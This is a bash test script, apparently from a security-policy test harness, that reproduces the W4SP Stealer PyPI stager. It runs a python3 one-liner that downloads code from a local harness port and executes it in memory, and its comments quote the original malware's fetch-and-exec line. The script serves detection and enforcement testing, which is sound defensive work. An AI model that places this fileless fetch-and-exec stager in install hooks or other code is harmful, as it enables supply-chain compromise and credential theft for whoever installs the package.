#!/bin/bash
# technique: T1059.006 Command and Scripting Interpreter: Python + T1105 Ingress Tool Transfer
# reproduces: W4SP Stealer's PyPI packages (2022) ran `exec(requests.get(URL).text)`; the same stager as an install hook's one-liner, `python3 -c "exec(urlopen(URL).read())"`: no file, no pipe, no decoding, the second stage runs inside the interpreter that fetched it
# expect: interpreter-fetch-eval ^python3(\.[0-9]+)?$
# exec-borne: no
#
# Not exec-borne: the payload is never executed as a program. The
# enforcing policy kills the interpreter when it connects, which races
# the fetch. The stage served by the harness creates the marker file.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

hook="import urllib.request as r; exec(r.urlopen('http://127.0.0.1:${BW_ATTACK_PORT:?}/stage.py').read())"
python3 -c "$hook"
